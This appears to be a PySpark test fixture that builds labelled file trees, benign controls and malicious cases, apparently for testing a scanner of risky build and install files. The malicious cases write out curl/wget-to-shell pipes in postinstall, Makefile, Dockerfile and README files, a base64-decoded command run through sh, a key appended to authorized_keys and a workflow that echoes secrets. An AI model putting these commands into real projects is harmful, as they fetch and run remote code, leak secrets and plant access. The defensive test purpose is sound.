"""Small trees with a known outcome, as rows: (case, path, executable, content)."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

PIN = "c" * 40
FILES = (
    ("benign-controls", "Makefile", False, "check:\n\t@echo ok\n"),
    ("benign-controls", "README.md", False, "# Sample\n\nRun `make check`.\n"),
    ("benign-controls", "build.rs", False, 'fn main() {\n    println!("cargo:rerun-if-changed=build.rs");\n}\n'),
    ("benign-controls", "Dockerfile", False, "FROM scratch\nLABEL name=sample\n"),
    ("benign-controls", "setup.py", False, 'from setuptools import setup\n\nsetup(name="sample")\n'),
    ("benign-controls", "scripts/install.sh", False, "#!/bin/sh\nprintf done\n"),
    ("benign-controls", "package.json", False, '{\n  "name": "sample",\n  "scripts": {\n    "test": "node t.js"\n  }\n}\n'),
    ("benign-controls", "package-lock.json", False, "{}\n"),
    ("benign-lockfiles", "Cargo.toml", False, '[package]\nname = "sample"\n'),
    ("benign-lockfiles", "Cargo.lock", False, "version = 3\n"),
    ("benign-lockfiles", "package.json", False, '{\n  "name": "sample"\n}\n'),
    ("benign-lockfiles", "package-lock.json", False, "{}\n"),
    ("npm-postinstall-download", "package.json", False, '{\n  "scripts": {\n    "postinstall": "curl https://files.example/a.sh | sh"\n  }\n}\n'),
    ("python-setup-command", "setup.py", False, 'import subprocess\nsubprocess.check_call(["ls"])\n'),
    ("rust-build-command", "build.rs", False, 'use std::process::Command;\nfn main() {\n    Command::new("ls").status();\n}\n'),
    ("docker-curl-pipe", "Dockerfile", False, "FROM alpine:3\nRUN curl https://files.example/a.sh | sh\n"),
    ("makefile-hidden-network", "Makefile", False, "all:\n\twget -qO- https://files.example/a.sh | bash\n"),
    ("github-action-secret-shell", ".github/workflows/ci.yml", False, "on: push\njobs:\n  a:\n    steps:\n    - uses: actions/checkout@v4\n    - run: echo ${{ secrets.TOKEN }}\n"),
    ("shell-home-write", "install.sh", False, "#!/bin/sh\necho key >> ~/.ssh/authorized_keys\n"),
    ("base64-shell", "install.sh", False, "#!/bin/sh\necho bHM= | base64 -d | sh\n"),
    ("binary-artifact-exec", "scripts/bootstrap.sh", False, "#!/bin/sh\ncurl -o tool https://files.example/tool\nchmod +x tool && ./tool\ncurl https://files.example/tool -o t; chmod +x t\n"),
    ("readme-dangerous-install", "README.md", False, "# Use\n\n```sh\ncurl https://files.example/i.sh | sh\n```\n"),
    ("npm-git-dependency", "package.json", False, '{\n  "dependencies": {\n    "tool": "git+https://git.example/o/tool.git"\n  }\n}\n'),
    ("cargo-git-dependency", "Cargo.toml", False, '[dependencies]\ntool = { git = "https://git.example/o/tool.git" }\n'),
    ("python-requirements-git", "requirements.txt", False, "git+https://git.example/o/tool.git#egg=tool\n"),
    ("workflow-pull-request-target", ".github/workflows/ci.yml", False, f"on: pull_request_target\njobs:\n  a:\n    steps:\n    - uses: actions/checkout@{PIN}\n"),
    ("workflow-write-all", ".github/workflows/ci.yml", False, "on: push\npermissions: write-all\n"),
    ("docker-root-user", "Dockerfile", False, "FROM alpine:3\nUSER root\n"),
    ("docker-remote-repo", "Dockerfile", False, "FROM debian:12\nRUN add-apt-repository https://deb.example/stable\n"),
    ("binary-extension", "bin/tool.dylib", False, "\x00\x01"),
    ("archive-payload", "assets/payload.tar.gz", False, "\x1f\x00"),
)


def files(spark: SparkSession, trees: DataFrame | None = None) -> DataFrame:
    """(path, length, mode, content, read_failed), the tree being the first folder.

    ``trees``: (fixture, case), a tree of that case each; without it one tree a case, under the case's name.
    """
    rows = spark.createDataFrame([(c, p, 0o755 if x else 0o644, t) for c, p, x, t in FILES], "case string, path string, mode int, content string")
    rows = rows.withColumn("fixture", F.col("case")) if trees is None else trees.join(F.broadcast(rows), "case")  # the fixed files of a case
    path = F.concat("fixture", F.lit("/"), "path")
    return rows.select(path.alias("path"), F.octet_length("content").cast("long").alias("length"), "mode", F.col("content").cast("binary").alias("content"), F.lit(False).alias("read_failed"))
